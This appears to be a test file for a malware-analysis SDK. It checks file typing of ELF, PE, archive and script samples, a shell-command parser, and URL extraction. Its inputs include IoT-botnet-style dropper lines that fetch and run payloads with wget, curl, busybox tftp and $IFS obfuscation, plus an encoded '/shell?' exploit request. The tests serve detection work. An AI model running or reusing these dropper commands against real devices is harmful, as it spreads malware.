// describeFile and the download helpers plugins bundle: hashes against
// node:crypto, file types against Debian's `file` on real files (the node
// binary, archives made by gzip/tar/zip) and on headers made here for the
// architectures IoT bots are built for; the shell-line reader on command lines
// seen in attacks.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import {
  describeFile,
  findUrls,
  formDecoded,
  parseOptions,
  shellCommands,
  urlExtractTargets,
} from '../src/index.js';

const dir = mkdtempSync(join(tmpdir(), 'sdk-describe-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Debian's `file -b` on these bytes. */
function fileSays(name: string, data: Uint8Array): string {
  const path = join(dir, name);
  writeFileSync(path, data);
  return execFileSync('file', ['-b', path], { encoding: 'utf8' }).trim();
}

/** An ELF header: class (1: 32-bit, 2: 64-bit), data (1: LSB, 2: MSB), e_type, e_machine. */
function elf(cls: number, data: number, type: number, machine: number): Buffer {
  const b = Buffer.alloc(cls === 1 ? 52 : 64);
  b.set([0x7f, 0x45, 0x4c, 0x46, cls, data, 1], 0);
  const w16 = data === 1 ? b.writeUInt16LE.bind(b) : b.writeUInt16BE.bind(b);
  w16(type, 16);
  w16(machine, 18);
  (data === 1 ? b.writeUInt32LE.bind(b) : b.writeUInt32BE.bind(b))(1, 20); // e_version
  return b;
}

/** A PE file's headers: MZ, e_lfanew, PE\0\0, machine, characteristics, optional header magic, subsystem. */
function pe(machine: number, magic: number, subsystem: number, dll = false): Buffer {
  const b = Buffer.alloc(0x200);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(machine, 0x84);
  b.writeUInt16LE(magic === 0x20b ? 240 : 224, 0x94); // SizeOfOptionalHeader
  b.writeUInt16LE(0x0102 | (dll ? 0x2000 : 0), 0x96);
  b.writeUInt16LE(magic, 0x98);
  b.writeUInt16LE(subsystem, 0x98 + 68);
  return b;
}

describe('describeFile', () => {
  test('hashes and size are those of node:crypto', () => {
    const data = readFileSync(process.execPath).subarray(0, 1 << 20);
    const d = describeFile(data);
    for (const algo of ['md5', 'sha1', 'sha256', 'sha512'] as const)
      expect(d[algo]).toBe(createHash(algo).update(data).digest('hex'));
    expect(d.size).toBe(data.length);
  });

  test('ELF: class, byte order, type and machine as `file` says them', () => {
    const node = readFileSync(process.execPath);
    const d = describeFile(node);
    expect(d).toMatchObject({ fileType: 'ELF', contentType: 'application/x-elf' });
    expect(d.fileDescription).toMatch(/^ELF 64-bit LSB (executable|shared object), x86-64$/);
    const cases: [string, Buffer][] = [
      ['ELF 32-bit LSB executable, ARM', elf(1, 1, 2, 40)],
      ['ELF 32-bit MSB executable, MIPS', elf(1, 2, 2, 8)],
      ['ELF 32-bit LSB executable, MIPS', elf(1, 1, 2, 8)],
      ['ELF 32-bit LSB executable, Intel 80386', elf(1, 1, 2, 3)],
      ['ELF 32-bit MSB executable, PowerPC', elf(1, 2, 2, 20)],
      ['ELF 32-bit MSB executable, Motorola m68k', elf(1, 2, 2, 4)],
      ['ELF 32-bit LSB executable, Renesas SH', elf(1, 1, 2, 42)],
      ['ELF 64-bit LSB executable, ARM aarch64', elf(2, 1, 2, 183)],
      ['ELF 64-bit LSB shared object, x86-64', elf(2, 1, 3, 62)],
    ];
    for (const [want, bytes] of cases) {
      expect(describeFile(bytes).fileDescription).toBe(want);
      expect(fileSays('elf', bytes).startsWith(want), fileSays('elf', bytes)).toBe(true);
    }
  });

  test('PE: format, subsystem and machine as `file` says them; MZ alone is MS-DOS', () => {
    const cases: [string, Buffer][] = [
      ['PE32 executable (GUI) Intel 80386', pe(0x14c, 0x10b, 2)],
      ['PE32 executable (console) Intel 80386', pe(0x14c, 0x10b, 3)],
      ['PE32+ executable (console) x86-64', pe(0x8664, 0x20b, 3)],
      ['PE32 executable (DLL) Intel 80386', pe(0x14c, 0x10b, 2, true)],
    ];
    for (const [want, bytes] of cases) {
      const d = describeFile(bytes);
      expect(d).toMatchObject({ fileType: 'PE', contentType: 'application/x-dosexec' });
      expect(d.fileDescription).toBe(want);
      expect(fileSays('pe', bytes).replace(/ \(DLL\) \(GUI\)/, ' (DLL)')).toContain(want);
    }
    const dos = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]);
    expect(describeFile(dos)).toMatchObject({
      fileType: 'MS-DOS',
      fileDescription: 'MS-DOS executable',
    });
  });

  test('archives made by gzip, tar and zip; scripts by their #! line; text; data', () => {
    const text = Buffer.from('cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh\n'.repeat(20));
    writeFileSync(join(dir, 'a.txt'), text);
    execFileSync('gzip', ['-k', '-f', join(dir, 'a.txt')]);
    execFileSync('tar', ['-cf', join(dir, 'a.tar'), '-C', dir, 'a.txt']);
    execFileSync('zip', ['-q', join(dir, 'a.zip'), join(dir, 'a.txt')]);
    const read = (n: string) => readFileSync(join(dir, n));
    expect(describeFile(read('a.txt.gz'))).toMatchObject({
      fileType: 'archive',
      fileDescription: 'gzip compressed data',
      contentType: 'application/gzip',
    });
    expect(describeFile(read('a.tar'))).toMatchObject({
      fileType: 'archive',
      fileDescription: 'POSIX tar archive',
      contentType: 'application/x-tar',
    });
    expect(describeFile(read('a.zip'))).toMatchObject({
      fileType: 'archive',
      contentType: 'application/zip',
    });
    const scripts: [string, string][] = [
      ['#!/bin/sh\nwget http://x/y\n', 'POSIX shell script'],
      ['#!/bin/bash\n', 'Bourne-Again shell script'],
      ['#!/usr/bin/env python3\nprint(1)\n', 'Python script'],
      ['#! /usr/bin/perl -w\n', 'Perl script'],
    ];
    for (const [src, want] of scripts) {
      expect(describeFile(Buffer.from(src))).toMatchObject({
        fileType: 'script',
        fileDescription: want,
        contentType: 'text/x-shellscript',
      });
      expect(fileSays('script', Buffer.from(src))).toContain(want);
    }
    expect(describeFile(text)).toMatchObject({ fileType: 'text', contentType: 'text/plain' });
    expect(describeFile(Buffer.from('<!DOCTYPE html><html></html>'))).toMatchObject({
      fileType: 'HTML',
      contentType: 'text/html',
    });
    expect(describeFile(Buffer.from([0, 1, 2, 3, 0xff]))).toMatchObject({
      fileType: 'data',
      contentType: 'application/octet-stream',
    });
  });
});

describe('shellCommands', () => {
  const programs = (text: string) => shellCommands(text).map((c) => [c.program, ...c.args]);

  test('splits at ; && || | & line ends and backticks, also inside quotes; $IFS is a space', () => {
    expect(
      programs(
        'cd /tmp || cd /var/run; wget http://1.2.3.4/x.sh; chmod 777 x.sh; sh x.sh\r\n' +
          'bash -c "curl -fsSL http://1.2.3.4/i | sh" && `busybox${IFS}wget$IFS-O-${IFS}1.2.3.4/b`',
      ),
    ).toEqual([
      ['cd', '/tmp'],
      ['cd', '/var/run'],
      ['wget', 'http://1.2.3.4/x.sh'],
      ['chmod', '777', 'x.sh'],
      ['sh', 'x.sh'],
      ['curl', '-fsSL', 'http://1.2.3.4/i'],
      ['sh'],
      ['wget', '-O-', '1.2.3.4/b'],
    ]);
  });

  test('offsets and text of each command; busybox and paths', () => {
    const text = 'x; /bin/busybox tftp -g -r mips 1.2.3.4 ; y';
    const [, c] = shellCommands(text);
    expect(c).toMatchObject({
      program: 'tftp',
      busybox: true,
      offset: text.indexOf('/bin/busybox') + 13,
    });
    expect(c!.text).toBe('tftp -g -r mips 1.2.3.4');
  });

  test('with programs: only their commands; quotes inside a name do not hide it', () => {
    const text = `cd /tmp; w'g'et http://1.2.3.4/a; curl -O http://1.2.3.4/b; tftp -g -r c 1.2.3.4`;
    expect(shellCommands(text, ['wget', 'curl']).map((c) => [c.program, c.offset])).toEqual([
      ['wget', text.indexOf("w'g'et")],
      ['curl', text.indexOf('curl')],
    ]);
    expect(shellCommands('GET / HTTP/1.1\r\nHost: x\r\n\r\n', ['wget'])).toEqual([]);
  });

  test('parseOptions: value options, clusters, --long=value, redirections dropped', () => {
    const { options, operands } = parseOptions(
      ['-qO-', 'http://h/x', '--user-agent', 'x y', '--tries=3', '2>&1', '>', '/dev/null'],
      { short: 'O', long: ['user-agent'] },
    );
    expect([...options]).toEqual([
      ['q', true],
      ['O', '-'],
      ['user-agent', 'x y'],
      ['tries', '3'],
    ]);
    expect(operands).toEqual(['http://h/x']);
  });
});

describe('URLs', () => {
  test('findUrls: schemes asked for, trailing punctuation dropped, offsets', () => {
    const text = 'see (http://1.2.3.4/a.sh), ftp://u:p@1.2.3.4:2121/b. and tftp://1.2.3.4/c;x';
    expect(findUrls(text, ['http', 'https'])).toEqual([{ url: 'http://1.2.3.4/a.sh', offset: 5 }]);
    expect(findUrls(text, ['ftp', 'tftp']).map((u) => u.url)).toEqual([
      'ftp://u:p@1.2.3.4:2121/b',
      'tftp://1.2.3.4/c',
    ]);
  });

  test('formDecoded: query strings and form bodies of HTTP requests', () => {
    expect(formDecoded('GET /shell?cd+/tmp;wget+http://1.2.3.4/j%61ws HTTP/1.1\r\n\r\n')).toContain(
      'wget http://1.2.3.4/jaws',
    );
    expect(formDecoded('wget+http://x')).toBeUndefined();
  });

  test("urlExtractTargets: url-extract's url findings and the URLs of its command findings", () => {
    const results = {
      'url-extract': {
        findings: [
          { type: 'url' as const, value: 'http://1.2.3.4/a', offset: 3 },
          {
            type: 'command' as const,
            value: 'tftp -g -r b 1.2.3.4',
            offset: 9,
            meta: { tool: 'tftp', url: 'tftp://1.2.3.4/b' },
          },
        ],
      },
    };
    expect(urlExtractTargets(results, ['tftp'])).toEqual([
      { url: 'tftp://1.2.3.4/b', offset: 9, via: 'url-extract tftp' },
    ]);
    expect(urlExtractTargets({}, ['http'])).toEqual([]);
  });
});
